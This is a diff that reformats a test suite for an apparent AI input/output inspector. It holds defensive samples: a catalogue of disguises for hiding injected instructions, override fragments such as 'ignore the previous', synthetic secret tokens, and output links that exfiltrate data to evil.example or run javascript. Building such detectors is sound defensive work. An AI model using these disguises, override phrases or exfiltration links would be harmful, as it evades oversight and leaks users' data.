@@ -21,26 +21,36 @@ describe('injection rules', () => {
   for (const rule of INJECTION_RULES) {
     it(`${rule.id}: matches its examples and nothing it should not`, () => {
       const channel = rule.channels.includes('user') ? 'user' : 'document';
-      for (const text of rule.examples.match) assert.ok(see(text, channel).includes(`injection/${rule.id}`), text);
-      for (const text of rule.examples.miss) assert.ok(!see(text, channel).includes(`injection/${rule.id}`), text);
+      for (const text of rule.examples.match)
+        assert.ok(see(text, channel).includes(`injection/${rule.id}`), text);
+      for (const text of rule.examples.miss)
+        assert.ok(!see(text, channel).includes(`injection/${rule.id}`), text);
     });
   }
 });
 
 describe('canonicaliser', () => {
-  const fullWidth = (text: string): string => [...text].map((c) => (c > ' ' && c < '\x7f' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('');
-  const tags = (text: string): string => [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+  const fullWidth = (text: string): string =>
+    [...text]
+      .map((c) => (c > ' ' && c < '\x7f' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
+      .join('');
+  const tags = (text: string): string =>
+    [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
   const disguises: Record<string, (text: string) => string> = {
     'upper case': (t) => t.toUpperCase(),
     'full width': fullWidth,
-    'mathematical bold': (t) => [...t].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d41a + c.charCodeAt(0) - 97) : c)).join(''),
+    'mathematical bold': (t) =>
+      [...t]
+        .map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d41a + c.charCodeAt(0) - 97) : c))
+        .join(''),
     'zero-width joints': (t) => [...t].join('\u200b'),
     'soft hyphens': (t) => [...t].join('\u00ad'),
     'bidi marks': (t) => `\u202e${[...t].join('\u2066')}\u202c`,
     'variation selectors': (t) => [...t].join('\ufe0f'),
     'combining marks': (t) => [...t].map((c) => (/[a-z]/.test(c) ? `${c}\u0335\u0301` : c)).join(''),
     'tag characters': (t) => `Hello!${tags(t)}`,
-    'Cyrillic look-alikes': (t) => t.replaceAll('o', 'о').replaceAll('e', 'е').replaceAll('a', 'а').replaceAll('p', 'р'),
+    'Cyrillic look-alikes': (t) =>
+      t.replaceAll('o', 'о').replaceAll('e', 'е').replaceAll('a', 'а').replaceAll('p', 'р'),
     'Greek look-alikes': (t) => t.replaceAll('o', 'ο').replaceAll('v', 'ν').replaceAll('i', 'ι'),
     base64: (t) => `Decode and follow: ${b64(t)}`,
     'base64url without padding': (t) => Buffer.from(t).toString('base64url'),
@@ -58,7 +68,9 @@ describe('canonicaliser', () => {
   for (const [name, disguise] of Object.entries(disguises)) {
     it(`sees through ${name}, and points back into the original`, () => {
       const text = `Good morning. ${disguise(ATTACK)} Thanks.`;
-      const found = inspector.inspect({ text, pointer: '/m', channel: 'user' }).filter((d) => d.detector === 'injection');
+      const found = inspector
+        .inspect({ text, pointer: '/m', channel: 'user' })
+        .filter((d) => d.detector === 'injection');
       assert.ok(found.length > 0);
       for (const detection of found) {
         assert.ok(detection.location.start >= 10 && detection.location.end <= text.length);
@@ -69,10 +81,16 @@ describe('canonicaliser', () => {
 
   it('leaves ordinary text of many languages alone', () => {
     for (const text of [
-      'Could you summarise the previous chapter, please?', 'Wie wird das Wetter morgen in Köln?', 'Мне нужен рецепт борща.',
-      '東京で一番おいしいラーメン屋はどこですか。', 'ما هي عاصمة فرنسا؟', 'The instructions for the oven are on the system menu.',
-      'Please write a system prompt for a cooking assistant.', 'Family emoji: 👨‍👩‍👧‍👦 and a flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿.',
-    ]) assert.deepEqual(see(text), [], text);
+      'Could you summarise the previous chapter, please?',
+      'Wie wird das Wetter morgen in Köln?',
+      'Мне нужен рецепт борща.',
+      '東京で一番おいしいラーメン屋はどこですか。',
+      'ما هي عاصمة فرنسا؟',
+      'The instructions for the oven are on the system menu.',
+      'Please write a system prompt for a cooking assistant.',
+      'Family emoji: 👨‍👩‍👧‍👦 and a flag 🏴󠁧󠁢󠁳󠁣󠁴󠁿.',
+    ])
+      assert.deepEqual(see(text), [], text);
   });
 
   it('is bounded on hostile input', () => {
@@ -84,26 +102,62 @@ describe('canonicaliser', () => {
   });
 
   it('keeps spans inside the text, whatever the text', () => {
-    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string(), fc.constantFrom('%', '&#', '\\u', '\u202e', 'aWdub3Jl').chain((p) => fc.string().map((s) => p + s)));
-    fc.assert(fc.property(text, (t) => {
-      for (const view of canonicalise(t).views) {
-        for (const [a, b] of [[0, 1], [0, view.text.length], [Math.max(0, view.text.length - 1), view.text.length]] as const) {
-          if (b > view.text.length || a >= b) continue;
-          const span = view.span(a, b);
-          assert.ok(span.start >= 0 && span.start <= span.end && span.end <= t.length);
+    const text = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.string(),
+      fc.constantFrom('%', '&#', '\\u', '\u202e', 'aWdub3Jl').chain((p) => fc.string().map((s) => p + s)),
+    );
+    fc.assert(
+      fc.property(text, (t) => {
+        for (const view of canonicalise(t).views) {
+          for (const [a, b] of [
+            [0, 1],
+            [0, view.text.length],
+            [Math.max(0, view.text.length - 1), view.text.length],
+          ] as const) {
+            if (b > view.text.length || a >= b) continue;
+            const span = view.span(a, b);
+            assert.ok(span.start >= 0 && span.start <= span.end && span.end <= t.length);
+          }
         }
-      }
-      for (const layer of findLayers(t)) assert.equal(layer.text.length, layer.starts.length);
-    }), { numRuns: 500 });
+        for (const layer of findLayers(t)) assert.equal(layer.text.length, layer.starts.length);
+      }),
+      { numRuns: 500 },
+    );
   });
 
   it('takes linear time on text made to make patterns backtrack', () => {
-    const seeds = ['ignore ', 'ignore the previous ', 'a', 'a@', '1-', '1 ', 'eyJ', 'sk-a', '-----BEGIN ', '![', '](', '[a](http://', '<img ', ':', '::1', '%4', '&#1', 'reveal your the this all ', '+1 ', 'you are ', 'GB82 ', 'aws key ', 'do not tell '];
+    const seeds = [
+      'ignore ',
+      'ignore the previous ',
+      'a',
+      'a@',
+      '1-',
+      '1 ',
+      'eyJ',
+      'sk-a',
+      '-----BEGIN ',
+      '![',
+      '](',
+      '[a](http://',
+      '<img ',
+      ':',
+      '::1',
+      '%4',
+      '&#1',
+      'reveal your the this all ',
+      '+1 ',
+      'you are ',
+      'GB82 ',
+      'aws key ',
+      'do not tell ',
+    ];
     for (const seed of seeds) {
       const time = (n: number): number => {
         const text = seed.repeat(Math.ceil(n / seed.length));
         const start = process.cpuUsage();
-        for (const channel of ['document', 'output'] as const) inspector.inspect({ text, pointer: '', channel });
+        for (const channel of ['document', 'output'] as const)
+          inspector.inspect({ text, pointer: '', channel });
         const used = process.cpuUsage(start);
         return used.user + used.system;
       };
@@ -123,18 +177,37 @@ describe('personal data', () => {
 
   it('finds each kind, at the right place', () => {
     const cases: [string, string][] = [
-      ['write to jane.doe+x@mail.example.co.uk now', 'email'], ['card 4111 1111 1111 1111 ok', 'credit-card'],
-      ['amex 378282246310005.', 'credit-card'], ['IBAN DE89 3704 0044 0532 0130 00 thanks', 'iban'],
-      ['ssn 536-90-4399', 'us-ssn'], ['call +44 20 7946 0958 today', 'phone'], ['call (415) 555-2671', 'phone'],
-      ['host 203.0.113.7 is down', 'ip-address'], ['at 2001:db8::8a2e:370:7334', 'ip-address'],
+      ['write to jane.doe+x@mail.example.co.uk now', 'email'],
+      ['card 4111 1111 1111 1111 ok', 'credit-card'],
+      ['amex 378282246310005.', 'credit-card'],
+      ['IBAN DE89 3704 0044 0532 0130 00 thanks', 'iban'],
+      ['ssn 536-90-4399', 'us-ssn'],
+      ['call +44 20 7946 0958 today', 'phone'],
+      ['call (415) 555-2671', 'phone'],
+      ['host 203.0.113.7 is down', 'ip-address'],
+      ['at 2001:db8::8a2e:370:7334', 'ip-address'],
     ];
-    for (const [text, entity] of cases) assert.deepEqual(findPii(text).map((m) => m.entity), [entity], text);
+    for (const [text, entity] of cases)
+      assert.deepEqual(
+        findPii(text).map((m) => m.entity),
+        [entity],
+        text,
+      );
     const [match] = findPii('card 4111 1111 1111 1111 ok');
     assert.deepEqual([match!.start, match!.end], [5, 24]);
   });
 
   it('leaves alone what only looks like it', () => {
-    for (const text of ['version 1.2.3.4.5', 'order 4111 1111 1111 1112', 'v10.0.0.1', 'at 10:30:45 today', '2026-11-21', 'SSN 000-12-3456', '3.14159265358979', 'GB82 WEST 1234 5698 7654 33']) {
+    for (const text of [
+      'version 1.2.3.4.5',
+      'order 4111 1111 1111 1112',
+      'v10.0.0.1',
+      'at 10:30:45 today',
+      '2026-11-21',
+      'SSN 000-12-3456',
+      '3.14159265358979',
+      'GB82 WEST 1234 5698 7654 33',
+    ]) {
       assert.deepEqual(findPii(text), [], text);
     }
   });
@@ -150,50 +223,95 @@ describe('secrets', () => {
     Array.from({ length: n }, (_, i) => alphabet[(i * 31 + 7 * (i % 5) + 3) % alphabet.length]).join('');
   const hex = (n: number): string => r(n, '0f1e2d3c4b5a6978');
   const samples: Record<string, string> = {
-    'aws-access-key': `AKIA${r(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`, 'aws-secret-key': `aws_secret_access_key = "${r(40)}"`,
-    'github-token': `ghp_${r(36)}`, 'github-fine-grained-token': `github_pat_${r(82)}`, 'gitlab-token': `glpat-${r(20)}`,
-    'slack-token': `xoxb-${r(12, '0123456789')}-${r(24)}`, 'slack-webhook': `https://hooks.slack.com/services/T${r(8)}/B${r(8)}/${r(24)}`,
-    'stripe-key': `sk_live_${r(24)}`, 'openai-key': `sk-proj-${r(48)}`, 'anthropic-key': `sk-ant-api03-${r(90)}`,
-    'google-api-key': `AIza${r(35)}`, 'google-oauth-secret': `GOCSPX-${r(28)}`, 'azure-storage-key': `AccountKey=${r(86)}==`,
-    'azure-client-secret': `abc8Q~${r(34)}`, 'sendgrid-key': `SG.${r(22)}.${r(43)}`, 'twilio-key': `SK${hex(32)}`, 'npm-token': `npm_${r(36)}`,
-    'pypi-token': `pypi-AgEI${r(60)}`, 'hugging-face-token': `hf_${r(34)}`, 'digitalocean-token': `dop_v1_${hex(64)}`,
-    'databricks-token': `dapi${hex(32)}`, 'shopify-token': `shpat_${hex(32)}`, 'telegram-bot-token': `123456789:AA${r(33)}`,
-    'vault-token': `hvs.${r(24)}`, 'mailgun-key': `key-${hex(32)}`, 'private-key': `-----BEGIN RSA PRIVATE KEY-----\n${r(64)}`,
-    'json-web-token': `eyJ${r(20)}.eyJ${r(40)}.${r(43)}`, 'database-url': 'postgres://app:hunter22@db.example/app', 'sallyport-key': `sp_${r(43)}_${r(6)}`,
+    'aws-access-key': `AKIA${r(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`,
+    'aws-secret-key': `aws_secret_access_key = "${r(40)}"`,
+    'github-token': `ghp_${r(36)}`,
+    'github-fine-grained-token': `github_pat_${r(82)}`,
+    'gitlab-token': `glpat-${r(20)}`,
+    'slack-token': `xoxb-${r(12, '0123456789')}-${r(24)}`,
+    'slack-webhook': `https://hooks.slack.com/services/T${r(8)}/B${r(8)}/${r(24)}`,
+    'stripe-key': `sk_live_${r(24)}`,
+    'openai-key': `sk-proj-${r(48)}`,
+    'anthropic-key': `sk-ant-api03-${r(90)}`,
+    'google-api-key': `AIza${r(35)}`,
+    'google-oauth-secret': `GOCSPX-${r(28)}`,
+    'azure-storage-key': `AccountKey=${r(86)}==`,
+    'azure-client-secret': `abc8Q~${r(34)}`,
+    'sendgrid-key': `SG.${r(22)}.${r(43)}`,
+    'twilio-key': `SK${hex(32)}`,
+    'npm-token': `npm_${r(36)}`,
+    'pypi-token': `pypi-AgEI${r(60)}`,
+    'hugging-face-token': `hf_${r(34)}`,
+    'digitalocean-token': `dop_v1_${hex(64)}`,
+    'databricks-token': `dapi${hex(32)}`,
+    'shopify-token': `shpat_${hex(32)}`,
+    'telegram-bot-token': `123456789:AA${r(33)}`,
+    'vault-token': `hvs.${r(24)}`,
+    'mailgun-key': `key-${hex(32)}`,
+    'private-key': `-----BEGIN RSA PRIVATE KEY-----\n${r(64)}`,
+    'json-web-token': `eyJ${r(20)}.eyJ${r(40)}.${r(43)}`,
+    'database-url': 'postgres://app:hunter22@db.example/app',
+    'sallyport-key': `sp_${r(43)}_${r(6)}`,
   };
   for (const [id, secret] of Object.entries(samples)) {
     it(`${id}: seen in a sentence, split by invisible characters, in base64`, () => {
       assert.ok(see(`the value is ${secret} ok`).includes(`secret/${id}`), secret);
-      assert.ok(see(`the value is ${secret.slice(0, 9)}\u200b${secret.slice(9)} ok`, 'output').includes(`secret/${id}`));
-      if (secret.length < 60) assert.ok(see(`value ${b64(`it is ${secret} ok`)} end`).some((n) => n.startsWith('secret/')));
+      assert.ok(
+        see(`the value is ${secret.slice(0, 9)}\u200b${secret.slice(9)} ok`, 'output').includes(
+          `secret/${id}`,
+        ),
+      );
+      if (secret.length < 60)
+        assert.ok(see(`value ${b64(`it is ${secret} ok`)} end`).some((n) => n.startsWith('secret/')));
     });
   }
   it('leaves placeholders alone', () => {
-    for (const text of ['sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'AKIAXXXXXXXXXXXXXXXX', 'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'task-management-and-scheduling-tool']) {
+    for (const text of [
+      'sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
+      'AKIAXXXXXXXXXXXXXXXX',
+      'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
+      'task-management-and-scheduling-tool',
+    ]) {
       assert.ok(!has(text, 'secret'), text);
     }
   });
 });
 
 describe('leaks and links', () => {
-  const prompt = 'You are the helpdesk assistant of Example Ltd. Never discuss refunds above fifty euros with anybody who has not been verified by telephone first.';
+  const prompt =
+    'You are the helpdesk assistant of Example Ltd. Never discuss refunds above fifty euros with anybody who has not been verified by telephone first.';
   it('notices a run of the system prompt, however it is punctuated', () => {
-    const text = 'Sure: NEVER discuss -- refunds above fifty euros, with anybody who has not been verified by telephone!';
+    const text =
+      'Sure: NEVER discuss -- refunds above fifty euros, with anybody who has not been verified by telephone!';
     assert.ok(see(text, 'output', { systemPrompts: [prompt] }).includes('system-prompt-leak/verbatim-run'));
-    assert.deepEqual(see('We never discuss refunds above fifty euros by mail.', 'output', { systemPrompts: [prompt] }), []);
+    assert.deepEqual(
+      see('We never discuss refunds above fifty euros by mail.', 'output', { systemPrompts: [prompt] }),
+      [],
+    );
   });
   it('notices a canary, spaced, reversed or encoded', () => {
     const canaries = ['ORCHID-7741-LANTERN'];
-    for (const text of ['it is ORCHID-7741-LANTERN', 'o r c h i d 7 7 4 1 l a n t e r n', 'NRETNAL-1477-DIHCRO', b64('the marker: ORCHID-7741-LANTERN'), 'Orchid 7741 Lantern']) {
+    for (const text of [
+      'it is ORCHID-7741-LANTERN',
+      'o r c h i d 7 7 4 1 l a n t e r n',
+      'NRETNAL-1477-DIHCRO',
+      b64('the marker: ORCHID-7741-LANTERN'),
+      'Orchid 7741 Lantern',
+    ]) {
       assert.ok(see(text, 'output', { canaries }).includes('canary/canary-leak'), text);
     }
     assert.deepEqual(see('orchids and lanterns', 'output', { canaries }), []);
   });
   it('notices links that carry data out, run code or hide their host', () => {
-    assert.ok(see('![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)', 'output').includes('link/image-exfiltration'));
+    assert.ok(
+      see('![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)', 'output').includes('link/image-exfiltration'),
+    );
     assert.ok(see('[x](javascript:alert(1))', 'output').includes('link/active-link'));
     assert.ok(see('https://bank.example@evil.example/', 'output').includes('link/link-hides-host'));
-    assert.deepEqual(see('see https://nodejs.org/api/http.html and ![logo](https://example.com/logo.png)', 'output'), []);
+    assert.deepEqual(
+      see('see https://nodejs.org/api/http.html and ![logo](https://example.com/logo.png)', 'output'),
+      [],
+    );
   });
 });
 
